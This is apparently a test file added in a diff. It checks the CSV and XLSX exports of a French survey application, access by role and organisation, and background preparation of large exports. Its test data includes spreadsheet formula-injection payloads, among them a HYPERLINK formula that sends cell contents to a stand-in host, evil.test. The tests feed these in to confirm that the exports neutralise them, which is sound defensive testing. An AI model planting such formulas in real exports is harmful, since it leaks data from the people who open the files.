@@ -1,0 +1,188 @@
+/**
+ * Raw answer-set exports: one row per answer set, one column per question with French titles
+ * and labels, the survey version; CSV in the French Excel dialect (read back by our parser
+ * and by exceljs), XLSX read back by exceljs, formula injection neutralised, streamed
+ * directly for a moderate size and prepared in the background with a progress page beyond.
+ */
+import { sql } from 'drizzle-orm';
+import ExcelJS from 'exceljs';
+import request from 'supertest';
+import { Readable } from 'node:stream';
+import { DIRECT_EXPORT_MAX_ROWS } from '../../server/reports/export.routes';
+import { getSurvey } from '../../server/surveys/surveys.service';
+import { createTestContext, type TestContext } from '../helpers/app';
+import { createOrg, createSite, createToken, createUser, loggedIn, type Browser } from '../helpers/factories';
+import { SEED_2018, SURVEY, insertAnswerSets, parseFrenchCsv, seedAnswerSets } from './reports.fixtures';
+
+let t: TestContext;
+let org: { id: string; code: string };
+let referent: Browser;
+let token: string;
+const INJECTION = '=HYPERLINK("http://evil.test/?"&A1,"Cliquez ici")';
+
+const binary = (r: request.Response, cb: (err: Error | null, body: Buffer) => void) => {
+  const chunks: Buffer[] = [];
+  const stream = r as unknown as NodeJS.ReadableStream;
+  stream.on('data', (c: Buffer) => chunks.push(c));
+  stream.on('end', () => cb(null, Buffer.concat(chunks)));
+};
+
+beforeAll(async () => {
+  t = await createTestContext();
+  t.clock.set('2019-09-09T08:00:00Z');
+  org = await createOrg(t.deps);
+  const site = await createSite(t.deps, org.id, 'Accueil général');
+  await insertAnswerSets(t.deps, org.id, seedAnswerSets({
+    siteId: site.id, start: new Date('2018-10-01T07:00:00Z'),
+    comment: (i) => (i === 0 ? INJECTION : i === 1 ? '+33 6 00 00 00 00; "rappelez-moi"\nmerci' : i === 2 ? '@SUM(1+1)' : i === 3 ? '-2+3' : undefined),
+  }));
+  referent = await loggedIn(t.app, await createUser(t.deps, org.id, 'referent'));
+  token = await createToken(t.deps, org.id, 'referent');
+});
+afterAll(() => t?.close());
+
+const query = `kind=reponses&survey=${SURVEY}&from=2018-10-01&to=2018-11-30`;
+
+describe('when the referent exports the answer sets as CSV', () => {
+  let rows: string[][];
+  beforeAll(async () => {
+    await referent.page('/rapports/exports');
+    const res = await referent.agent.get(`/rapports/exports/telecharger?${query}&format=csv`).buffer(true).parse(binary);
+    expect(res.status).toBe(200);
+    expect(res.headers['content-disposition']).toContain('reponses-satisfaction-accueil-2018-10-01-2018-11-30.csv');
+    expect(res.headers['x-total-rows']).toBe('107');
+    const text = (res.body as Buffer).toString('utf8');
+    expect(text).toContain('\r\n');
+    rows = parseFrenchCsv(text);
+  });
+
+  it('then there is one row per answer set and one column per question, titled in French, with the survey version', () => {
+    expect(rows).toHaveLength(108);
+    const header = rows[0];
+    expect(header.slice(0, 7)).toEqual(['Identifiant', 'Questionnaire', 'Version du questionnaire', 'Site', 'Canal', 'Langue', 'Date de fin']);
+    for (const [, label] of SEED_2018) expect(header).toContain(label);
+    expect(header.some((h) => h.startsWith('Avez-vous un commentaire ou une suggestion'))).toBe(true);
+    expect(new Set(rows.slice(1).map((r) => r[2]))).toEqual(new Set([getSurvey(t.deps, SURVEY)!.version]));
+    expect(rows[1].slice(3, 7)).toEqual(['Accueil général', 'Borne', 'fr', '01/10/2018 09:00']);
+  });
+
+  it('then answers read as French labels, and the counts per label match the report', () => {
+    const col = rows[0].indexOf('Courtoisie des agents d\'accueil');
+    const values = rows.slice(1).map((r) => r[col]);
+    const satisfied = values.filter((v) => v === 'Très satisfait' || v === 'Satisfait').length;
+    expect(satisfied).toBe(96);
+    expect(values.filter((v) => v === 'Sans avis / non concerné' || v.startsWith('Sans avis')).length).toBe(7);
+  });
+
+  it('then cells that would run as formulas are neutralised, and separators, quotes and line breaks survive', () => {
+    const col = rows[0].findIndex((h) => h.startsWith('Avez-vous un commentaire'));
+    expect(rows[1][col]).toBe(`'${INJECTION}`);
+    expect(rows[2][col]).toBe('\'+33 6 00 00 00 00; "rappelez-moi"\nmerci');
+    expect(rows[3][col]).toBe("'@SUM(1+1)");
+    expect(rows[4][col]).toBe("'-2+3");
+  });
+
+  it('then exceljs reads the same file back with ; as separator', async () => {
+    const res = await referent.agent.get(`/rapports/exports/telecharger?${query}&format=csv`).buffer(true).parse(binary);
+    const wb = new ExcelJS.Workbook();
+    const ws = await wb.csv.read(Readable.from([(res.body as Buffer).toString('utf8').slice(1)]), { parserOptions: { delimiter: ';' }, map: (v: unknown) => v } as never);
+    expect(ws.rowCount).toBe(108);
+    expect(ws.getRow(1).getCell(9).value).toBe('Courtoisie des agents d\'accueil');
+    expect(ws.getRow(2).getCell(3).value).toBe(getSurvey(t.deps, SURVEY)!.version);
+  });
+});
+
+describe('when the referent exports the answer sets as XLSX', () => {
+  it('then exceljs opens it with the same values, dates as dates, formulas neutralised', async () => {
+    const res = await referent.agent.get(`/rapports/exports/telecharger?${query}&format=xlsx`).buffer(true).parse(binary);
+    expect(res.status).toBe(200);
+    expect(res.headers['content-type']).toContain('spreadsheetml');
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(res.body as ArrayBuffer);
+    const ws = wb.getWorksheet('Réponses')!;
+    expect(ws.rowCount).toBe(108);
+    const header = (ws.getRow(1).values as unknown[]).slice(1);
+    const comment = header.findIndex((h) => String(h).startsWith('Avez-vous un commentaire')) + 1;
+    expect(ws.getRow(2).getCell(comment).value).toBe(`'${INJECTION}`);
+    expect(ws.getRow(2).getCell(7).value).toEqual(new Date('2018-10-01T07:00:00Z'));
+    const courtesy = header.indexOf('Courtoisie des agents d\'accueil') + 1;
+    let satisfied = 0;
+    ws.eachRow((row, i) => {
+      if (i > 1 && ['Très satisfait', 'Satisfait'].includes(String(row.getCell(courtesy).value))) satisfied++;
+    });
+    expect(satisfied).toBe(96);
+  });
+});
+
+describe('exports through the API and by role', () => {
+  it('when a referent token asks, then the CSV streams', async () => {
+    const res = await request(t.app).get(`/api/v1/exports/reponses.csv?survey=${SURVEY}&from=2018-10-01&to=2018-11-30`).set('Authorization', `Bearer ${token}`).buffer(true).parse(binary);
+    expect(res.status).toBe(200);
+    expect(parseFrenchCsv((res.body as Buffer).toString('utf8'))).toHaveLength(108);
+  });
+
+  it('when the query is invalid, then the API answers 422 with the reasons', async () => {
+    const res = await request(t.app).get('/api/v1/exports/reponses.csv?from=2018-12-01&to=2018-10-01').set('Authorization', `Bearer ${token}`);
+    expect(res.status).toBe(422);
+    expect(res.body.error.details).toHaveProperty('survey');
+  });
+
+  it('when a viewer or another organisation asks, then there is nothing to export for them', async () => {
+    const viewer = await createToken(t.deps, org.id, 'viewer');
+    expect((await request(t.app).get(`/api/v1/exports/reponses.csv?survey=${SURVEY}&from=2018-10-01&to=2018-11-30`).set('Authorization', `Bearer ${viewer}`)).status).toBe(404);
+    const other = await createOrg(t.deps);
+    const otherToken = await createToken(t.deps, other.id, 'referent');
+    const res = await request(t.app).get(`/api/v1/exports/reponses.csv?survey=${SURVEY}&from=2018-10-01&to=2018-11-30`).set('Authorization', `Bearer ${otherToken}`).buffer(true).parse(binary);
+    expect(parseFrenchCsv((res.body as Buffer).toString('utf8'))).toHaveLength(1);
+  });
+
+  it.each([
+    ['courriels', ['Campagne', 'Service', 'Adresse écrite', 'Envoyé le', 'Distribué', 'Message reçu le', 'Classe']],
+    ['appels', ['Enquête', 'Période de l’enquête', 'Numéro appelé', 'Type de numéro', 'Appel abouti', 'Note de forme (sur 10)', 'Note de fond (sur 10)']],
+  ])('when the %s export has nothing in the period, then it is a header line in French', async (kind, first) => {
+    await referent.page('/rapports/exports');
+    const res = await referent.agent.get(`/rapports/exports/telecharger?kind=${kind}&from=2018-10-01&to=2018-11-30&format=csv`).buffer(true).parse(binary);
+    expect(res.status).toBe(200);
+    const rows = parseFrenchCsv((res.body as Buffer).toString('utf8'));
+    expect(rows).toHaveLength(1);
+    expect(rows[0].slice(0, first.length)).toEqual(first);
+    expect(rows[0].join(' ')).not.toMatch(/Objet|Corps|évaluateur/i);
+  });
+});
+
+describe('when an export is larger than a direct download', () => {
+  it('then it is prepared in the background with a progress page, then downloaded whole', async () => {
+    const big = await createOrg(t.deps);
+    const b = await loggedIn(t.app, await createUser(t.deps, big.id, 'referent'));
+    const n = DIRECT_EXPORT_MAX_ROWS + 1;
+    const version = getSurvey(t.deps, SURVEY)!.version;
+    await t.deps.db.execute(sql`
+      insert into responses (id, org_id, survey_id, survey_version, site_id, channel, locale, answers, completed_at, received_at)
+      select gen_random_uuid(), ${big.id}, ${SURVEY}, ${version}, null, 'kiosk', 'fr',
+             jsonb_build_object('avis_global', 'tres_bien', 'courtoisie', case when g % 4 = 0 then 'peu_satisfait' else 'satisfait' end, 'commentaire', '=1+' || g),
+             timestamptz '2018-10-01 08:00+02' + g * interval '2 minutes', now()
+      from generate_series(1, ${n}) g`);
+    await b.page('/rapports/exports');
+    const start = await b.page(`/rapports/exports/telecharger?${query}&format=csv`);
+    expect(start.status).toBe(303);
+    const progressUrl = start.headers.location;
+    let page = await b.page(progressUrl);
+    for (let i = 0; i < 100 && !page.text.includes('L’export est prêt'); i++) {
+      expect(page.status).toBe(200);
+      expect(page.text).toMatch(/lignes sur 20\u202f001|L’export est prêt/);
+      await new Promise((r) => setTimeout(r, 200));
+      page = await b.page(progressUrl);
+    }
+    expect(page.text).toContain('L’export est prêt : 20\u202f001 lignes.');
+    // Another organisation cannot follow it.
+    expect((await referent.page(progressUrl)).status).toBe(404);
+    const file = await b.agent.get(`${progressUrl}/fichier`).buffer(true).parse(binary);
+    expect(file.status).toBe(200);
+    const rows = parseFrenchCsv((file.body as Buffer).toString('utf8'));
+    expect(rows).toHaveLength(n + 1);
+    const comment = rows[0].findIndex((h) => h.startsWith('Avez-vous un commentaire'));
+    expect(rows.slice(1).every((r) => r[comment].startsWith("'=1+"))).toBe(true);
+    // Keyset pages: every answer set exactly once.
+    expect(new Set(rows.slice(1).map((r) => r[0])).size).toBe(n);
+  }, 60_000);
+});
